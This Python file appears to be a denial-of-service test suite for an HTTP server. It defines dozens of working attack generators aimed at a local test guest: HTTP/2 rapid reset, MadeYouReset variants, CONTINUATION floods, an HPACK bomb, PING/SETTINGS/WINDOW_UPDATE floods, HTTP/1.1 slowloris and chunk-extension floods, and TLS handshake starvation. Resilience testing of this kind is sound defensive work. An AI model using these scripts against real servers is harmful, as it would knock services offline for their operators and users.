"""What is done to the server, one attack after the other: each a generator that yields bytes to send, or seconds to pause.
The guest is tests/guests/streams: `/empty` answers at once, `/measure` reads all content,
`/endless` writes pieces of 64 KiB for as long as they are taken.
"""

import itertools
import socket
import ssl
from dataclasses import dataclass
from typing import Callable

from foe import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, MOST, PADDED, PING, PREFACE, PRIORITY, SETTINGS, block, frame,
    length, literal, request, rst, settings, window_update,
)  # fmt: skip


@dataclass
class Attack:
    name: str
    script: Callable
    protocol: str
    reads: bool = True
    connections: int = 4
    seconds: float = 3.0
    buffer: int | None = None  # of what this side receives

    @property
    def is_h2(self):
        return self.protocol == "HTTP/2"


ATTACKS = []


def http2(name, **more):
    return lambda script: ATTACKS.append(Attack(name, script, "HTTP/2", **more)) or script


def http1(name, **more):
    return lambda script: ATTACKS.append(Attack(name, script, "HTTP/1.1", **more)) or script


def tls(name, **more):
    return lambda script: ATTACKS.append(Attack(name, script, "TLS", **more)) or script


def begin(**values):
    return PREFACE + settings(**values)


def streams():
    """The ids that a client may open, until there are none left."""
    return range(1, MOST, 2)


def for_ever(data, batch=100):
    return itertools.repeat(data * batch)


def in_pieces(stream, fields):
    """A request with these fields, each piece in a CONTINUATION of its own."""
    frames = [frame(CONTINUATION, 0, stream, piece) for piece in fields]
    head = frame(HEADERS, END_STREAM, stream, block())
    return b"".join([head, *frames, frame(CONTINUATION, END_HEADERS, stream)])


def batched(pieces, size=100):
    pieces = iter(pieces)
    return iter(lambda: b"".join(itertools.islice(pieces, size)), b"")


# Streams that are opened and reset: by the client, or by the server because the client provokes it.


@http2("rapid reset")
def _(foe):
    yield begin()
    yield from batched(request(stream) + rst(stream) for stream in streams())


@http2("rapid reset of uploads")
def _(foe):
    yield begin()
    yield from batched(request(stream, "/measure", "POST", end=False) + rst(stream) for stream in streams())


@http2("MadeYouReset by a window that overflows")
def _(foe):
    yield begin()
    yield from batched(request(stream, "/endless") + window_update(stream, MOST) for stream in streams())


@http2("MadeYouReset by DATA on a half-closed stream")
def _(foe):
    yield begin()
    yield from batched(request(stream, "/endless") + frame(DATA, 0, stream, b"x") for stream in streams())


@http2("MadeYouReset by a WINDOW_UPDATE of zero")
def _(foe):
    yield begin()
    yield from batched(request(stream, "/endless") + window_update(stream, 0) for stream in streams())


@http2("MadeYouReset by a PRIORITY of another size")
def _(foe):
    yield begin()
    yield from batched(request(stream, "/endless") + frame(PRIORITY, 0, stream, b"xxxx") for stream in streams())


@http2("MadeYouReset by a stream that depends on itself")
def _(foe):
    yield begin()
    itself = lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10")
    yield from batched(request(stream, "/endless") + itself(stream) for stream in streams())


@http2("requests that are malformed")
def _(foe):
    yield begin()
    yield from batched(request(stream, fields=literal(b"connection", b"close")) for stream in streams())


# Header sections.


@http2("CONTINUATION flood")
def _(foe):
    yield begin() + frame(HEADERS, 0, 1, literal(b"a", b"b"))
    yield from for_ever(frame(CONTINUATION, 0, 1, literal(b"x", b"y") * 3000), 1)


@http2("CONTINUATION flood of empty frames")
def _(foe):
    yield begin() + frame(HEADERS, 0, 1)
    yield from for_ever(frame(CONTINUATION, 0, 1))


@http2("empty HEADERS")
def _(foe):
    yield begin()
    yield from batched(frame(HEADERS, END_HEADERS | END_STREAM, stream) for stream in streams())


@http2("HPACK bomb: a field of 4,000 bytes, 16,000 times")
def _(foe):
    # With incremental indexing: the first request puts it into the table, each byte 0xbe of the others is all of it.
    bomb = b"\x40" + length(1, 7) + b"a" + length(4000, 7) + b"x" * 4000
    yield begin() + request(1, fields=bomb)
    yield from (request(stream, fields=b"\xbe" * 16_000) for stream in streams() if stream > 1)


@http2("header section of 256 KiB, again and again")
def _(foe):
    yield begin()
    yield from (in_pieces(stream, [literal(b"x", b"y" * 16_000)] * 16) for stream in streams())


@http2("10,000 fields of one byte, again and again")
def _(foe):
    yield begin()
    yield from (in_pieces(stream, [literal(b"x", b"") * 2500] * 4) for stream in streams())


# Frames that cost the client nothing.


def ping_flood(foe):
    yield begin()
    yield from for_ever(frame(PING, payload=b"siege..."))


http2("PING flood, answers read")(ping_flood)
http2("PING flood, answers unread", reads=False, buffer=4096)(ping_flood)


def settings_flood(foe):
    yield begin()
    yield from for_ever(settings(window=65_535, table=4096))


http2("SETTINGS flood, acks read")(settings_flood)
http2("SETTINGS flood, acks unread", reads=False, buffer=4096)(settings_flood)


@http2("SETTINGS that move the windows of 100 streams")
def _(foe):
    yield begin(window=0) + b"".join(request(stream, "/endless") for stream in range(1, 201, 2))
    yield 0.3
    yield from for_ever(settings(window=1) + settings(window=0))


@http2("unasked acks")
def _(foe):
    yield begin()
    yield from for_ever(frame(SETTINGS, ACK) + frame(PING, ACK, payload=b"........"))


@http2("PRIORITY flood")
def _(foe):
    yield begin()
    yield from batched(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in itertools.cycle(range(1, 2001, 2)))


@http2("unknown frames")
def _(foe):
    yield begin()
    yield from for_ever(frame(0xFA, 0xFF, 0, b""), 500)


@http2("unknown frames of 16 KiB")
def _(foe):
    yield begin()
    yield from for_ever(frame(0xFA, 0, 1, b"x" * 16_384), 4)


@http2("WINDOW_UPDATE flood")
def _(foe):
    yield begin() + request(1, "/measure", "POST", end=False)
    yield from for_ever(window_update(0, 1) + window_update(1, 1))


# Content.


@http2("empty DATA frames")
def _(foe):
    yield begin() + request(1, "/measure", "POST", end=False)
    yield from for_ever(frame(DATA, 0, 1), 500)


@http2("DATA frames of nothing but padding")
def _(foe):
    yield begin() + request(1, "/measure", "POST", end=False)
    while True:
        yield frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255) * (foe.credit(1, 25_600) // 256) or 0.001


@http2("DATA frames of one byte")
def _(foe):
    yield begin() + request(1, "/measure", "POST", end=False)
    while True:
        yield frame(DATA, 0, 1, b"x") * foe.credit(1, 1000) or 0.001


@http2("DATA beyond the window")
def _(foe):
    yield begin() + request(1, "/measure", "POST", end=False)
    yield from for_ever(frame(DATA, 0, 1, b"x" * 16_384), 4)


@http2("slow body: a byte a second", connections=20, seconds=9)
def _(foe):
    yield begin() + request(1, "/measure", "POST", end=False)
    while True:
        yield frame(DATA, 0, 1, b"x")
        yield 1


# Responses that are not taken.


@http2("100 endless responses, windows at zero", connections=2, seconds=9)
def _(foe):
    yield begin(window=0) + b"".join(request(stream, "/endless") for stream in range(1, 201, 2))


@http2("100 endless responses, windows opened by one byte at a time", seconds=9, connections=2)
def _(foe):
    yield begin(window=0) + b"".join(request(stream, "/endless") for stream in range(1, 201, 2))
    while True:
        yield 0.01
        yield b"".join(window_update(stream, 1) for stream in range(1, 201, 2))


@http2("GET flood, responses unread", reads=False, buffer=4096, seconds=5)
def _(foe):
    yield begin(window=MOST) + window_update(0, MOST - 65_535)
    yield from batched((request(stream, "/endless") for stream in streams()), 10)


@http2("GET flood, small responses unread", reads=False, buffer=4096, seconds=5)
def _(foe):
    yield begin(window=MOST) + window_update(0, MOST - 65_535)
    yield from batched(request(stream) for stream in streams())


# Streams.


@http2("1,000 streams that stay open", connections=2)
def _(foe):
    yield begin()
    yield b"".join(request(stream, "/measure", "POST", end=False) for stream in range(1, 2001, 2))


@http2("streams with even ids")
def _(foe):
    yield begin()
    yield from batched(request(stream) for stream in range(2, MOST, 2))


@http2("streams with decreasing ids")
def _(foe):
    yield begin()
    yield from batched(request(stream) for stream in range(200_001, 0, -2))


@http2("requests on stream 0")
def _(foe):
    yield begin()
    yield from for_ever(request(0))


@http2("the last stream id, and one more")
def _(foe):
    yield begin() + request(MOST - 2) + request(MOST) + request(1) + request(3)


# Silence.


@http2("a preface and nothing after it", connections=50, seconds=9)
def _(foe):
    yield PREFACE


@http2("half a preface", connections=50, seconds=9)
def _(foe):
    yield PREFACE[:16]


@http2("half a frame header", connections=50, seconds=9)
def _(foe):
    yield begin() + frame(SETTINGS, ACK) + request(1)[:5]


@http2("HEADERS without END_HEADERS", connections=50, seconds=9)
def _(foe):
    yield begin() + frame(SETTINGS, ACK) + frame(HEADERS, END_STREAM, 1, block())


@http2("PINGs and no request", connections=50, seconds=9)
def _(foe):
    yield begin()
    while True:
        yield frame(PING, payload=b"alive...")
        yield 1


# HTTP/1.1.

HOST = b"host: localhost\r\n"
CHUNKED = b"POST /measure HTTP/1.1\r\n" + HOST + b"transfer-encoding: chunked\r\n\r\n"


@http1("endless head")
def _(foe):
    yield b"GET /empty HTTP/1.1\r\n" + HOST
    yield from for_ever(b"x: y\r\n", 1000)


@http1("endless request line")
def _(foe):
    yield b"GET /"
    yield from for_ever(b"x" * 10_000, 1)


@http1("empty lines before a request")
def _(foe):
    yield from for_ever(b"\r\n", 5000)


@http1("slow head: a byte in half a second", connections=50, seconds=9)
def _(foe):
    yield b"GET /empty HTTP/1.1\r\n" + HOST + b"x: "
    while True:
        yield b"y"
        yield 0.5


@http1("nothing at all", connections=50, seconds=9)
def _(foe):
    yield 60


@http1("endless chunk extension")
def _(foe):
    yield CHUNKED + b"1;"
    yield from for_ever(b"x" * 10_000, 1)


@http1("endless chunk extensions, each of a chunk")
def _(foe):
    yield CHUNKED
    yield from for_ever(b"1;" + b"x" * 4000 + b"\r\nx\r\n", 10)


@http1("endless chunk size")
def _(foe):
    yield CHUNKED
    yield from for_ever(b"0" * 10_000, 1)


@http1("chunks of one byte")
def _(foe):
    yield CHUNKED
    yield from for_ever(b"1\r\nx\r\n", 1000)


@http1("endless trailers")
def _(foe):
    yield CHUNKED + b"0\r\n"
    yield from for_ever(b"x: y\r\n", 1000)


@http1("slow body: a byte a second", connections=20, seconds=9)
def _(foe):
    yield CHUNKED
    while True:
        yield b"1\r\nx\r\n"
        yield 1


@http1("pipelined flood, answers unread", reads=False, buffer=4096)
def _(foe):
    yield from for_ever(b"GET /empty HTTP/1.1\r\n" + HOST + b"\r\n", 200)


@http1("pipelined flood, answers read")
def _(foe):
    yield from for_ever(b"GET /empty HTTP/1.1\r\n" + HOST + b"\r\n", 200)


@http1("large responses unread", reads=False, buffer=4096, connections=50, seconds=9)
def _(foe):
    yield b"GET /endless HTTP/1.1\r\n" + HOST + b"\r\n"


@http1("half-closed behind a request, response unread", reads=False, buffer=4096, connections=50, seconds=9)
def _(foe):
    yield b"GET /endless HTTP/1.1\r\n" + HOST + b"\r\n"
    yield 0.1
    foe.socket.shutdown(socket.SHUT_WR)


@http1("half-closed within a body", connections=50)
def _(foe):
    yield CHUNKED + b"5\r\nab"
    yield 0.1
    foe.socket.shutdown(socket.SHUT_WR)


@http1("a request in every upgrade to HTTP/2 that is not offered")
def _(foe):
    upgrade = b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
    yield from for_ever(b"GET /empty HTTP/1.1\r\n" + HOST + upgrade, 50)


# TLS: what comes before there is any.


def client_hello():
    """A real one: a record of TLS."""
    heard, says = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(heard, says, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        return says.read()


tls("nothing at all", connections=50, seconds=12)(lambda foe: iter([60]))
tls("half a ClientHello", connections=50, seconds=12)(lambda foe: iter([client_hello()[:100]]))
tls("a ClientHello and nothing after it", connections=50, seconds=12)(lambda foe: iter([client_hello()]))


@tls("a ClientHello by a byte in half a second", connections=50, seconds=12)
def _(foe):
    for byte in client_hello():
        yield bytes([byte])
        yield 0.5


@tls("ClientHellos as fast as they are answered")
def _(foe):
    yield client_hello()
    yield 0.02
    foe.socket.shutdown(socket.SHUT_RDWR)


@tls("a ClientHello that never ends, in records of one byte")
def _(foe):
    yield b"\x16\x03\x01\0\4\x01\0\xff\xff"
    yield from for_ever(b"\x16\x03\x01\0\1x", 1000)


@tls("empty records")
def _(foe):
    yield from for_ever(b"\x16\x03\x01\0\0", 1000)


@tls("a request in cleartext")
def _(foe):
    yield b"GET /empty HTTP/1.1\r\n" + HOST + b"\r\n"


@tls("HTTP/2 in cleartext")
def _(foe):
    yield begin() + request(1)
